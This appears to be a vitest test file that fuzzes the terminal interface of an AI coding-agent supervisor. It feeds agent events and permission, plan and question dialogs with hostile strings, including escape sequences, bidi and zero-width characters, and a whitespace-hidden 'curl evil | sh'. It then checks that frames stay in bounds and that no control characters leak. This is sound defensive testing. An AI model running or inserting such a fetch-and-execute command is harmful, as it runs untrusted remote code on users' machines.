import {stripVTControlCharacters} from 'node:util';
import stringWidth from 'string-width';
import {describe, expect, it} from 'vitest';
import {turnsOf} from '../../__tests__/fuzzLength.js';
import {
	event,
	permissionRequest,
	planRequest,
	questionRequest,
	sessionStart,
	toolUse,
} from './events.js';
import {keys, renderApp} from './renderApp.js';
import {random} from './typist.js';

/*
 * Whatever an agent sends and however large the terminal is: no frame is
 * taller than `rows - 1` or wider than `columns`, and no control character
 * but Ink's own colours reaches the terminal.
 */

const hostile = [
	'\u001B[2J\u001B[H\u001B]0;title\u0007',
	'\u202Egnirts\u202C \u2066x\u2069',
	'zero\u200B\u200D\uFEFFwidth',
	'漢字とかな한국어',
	'👩\u200D👩\u200D👧\u200D👦 🇩🇪 1\uFE0F\u20E3 ⚠\uFE0F',
	`z${'\u0335\u0336\u0337\u0338'.repeat(40)}algo`,
	'\uD800 lone \uDC00',
	'a\r\nb\n\n\tc\u0085\u2028',
	`${' '.repeat(300)}; curl evil | sh`,
	'x'.repeat(700),
	'\u{E0041}\u{E0042} \u3164\u2800\u00A0',
	'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
	'ﷺ꧅⸻ क्षि நி ำำ',
];
const nasty = hostile.join(' ');

const sizes: [number, number][] = [
	[60, 16],
	[80, 24],
	[120, 40],
	[40, 10],
	[41, 11],
	[200, 60],
	[20, 5],
	[10, 2],
];

const dialogs = {
	permission: permissionRequest({
		tool: `mcp__${nasty}`,
		input: {[nasty]: nasty, list: hostile, nested: {deep: [{[nasty]: 1}]}},
		agentId: 'sub',
		agentType: nasty,
		context: {cwd: `/tmp/${nasty}`, transcriptPath: '', permissionMode: nasty},
	}),
	bash: permissionRequest({input: {command: nasty, description: nasty}}),
	edit: permissionRequest({
		tool: 'Edit',
		input: {
			file_path: nasty,
			old_string: nasty,
			new_string: hostile.join('\n'),
		},
	}),
	plan: planRequest(
		`# ${nasty}\n\n- ${hostile.join('\n- ')}\n\n> ${nasty}\n\n\`\`\`\n${nasty}\n\`\`\`\n\n| ${nasty} |\n| --- |\n`,
	),
	question: questionRequest([
		{
			question: nasty,
			header: nasty,
			multiSelect: true,
			options: hostile.map(text => ({
				label: text,
				description: nasty,
				preview: nasty,
			})),
		},
	]),
};

function check(
	frames: string[][],
	columns: number,
	rows: number,
	from: number,
) {
	// Most rows stay as they are from frame to frame: each is looked at once.
	const checked = new Set<string>();
	for (const frame of frames.slice(from)) {
		expect(frame.length).toBeLessThanOrEqual(Math.max(1, rows - 1));
		for (const row of frame) {
			if (checked.has(row)) continue;
			checked.add(row);
			expect(stringWidth(row)).toBeLessThanOrEqual(columns);
			expect(stripVTControlCharacters(row)).not.toMatch(
				// eslint-disable-next-line no-control-regex
				/[\u0000-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF\u{E0000}-\u{E007F}]/u,
			);
			// eslint-disable-next-line no-control-regex
			expect(row.replaceAll(/\u001B\[[\d;]*m/g, '')).not.toContain('\u001B');
		}
	}
}

describe('no frame leaves its terminal', () => {
	const asked = Object.entries(dialogs).map(
		([name, request], index) => [name, request, index] as const,
	);
	it.each(asked)('%s', async (_name, request, way) => {
		const screen = await renderApp({columns: 80, rows: 24, project: nasty});
		await screen.emit(
			...sessionStart(nasty),
			event('UserPromptSubmit', {prompt: nasty}),
			event('SessionStart', {source: nasty, model: nasty}),
			toolUse(nasty, {[nasty]: nasty}, nasty, {
				agentId: nasty,
				agentType: nasty,
			}),
			event(nasty, {anything: hostile}),
			request,
		);
		screen.supervisor.notify('error', nasty);
		for (const [columns, rows] of turnsOf(sizes, way, asked.length)) {
			await screen.resize(columns, rows);
			const from = screen.frames().length - 1;
			await screen.quiet();
			await screen.press('j', keys.pageDown, 'F', keys.tab);
			await screen.press(
				'v',
				keys.enter,
				'r',
				'G',
				keys.esc,
				'?',
				'G',
				keys.esc,
				'p',
			);
			await screen.quiet();
			await screen.press('D', 'o');
			await screen.paste(nasty);
			await screen.press(keys.esc);
			check(screen.frames(), columns, rows, from);
		}
	});

	it('while events of all kinds stream in', async () => {
		const screen = await renderApp({columns: 60, rows: 16});
		const next = random(7);
		for (let round = 0; round < 40; round++) {
			const text = hostile[Math.floor(next() * hostile.length)] ?? '';
			await screen.emit(
				event('Notification', {message: text}),
				event('PostToolUseFailure', {
					tool_name: text,
					tool_input: {a: text},
					error: text,
					tool_use_id: `f${round}`,
				}),
			);
			if (round % 5 === 0) await screen.press('k', keys.enter, keys.esc);
		}

		check(screen.frames(), 60, 16, 0);
	});
});
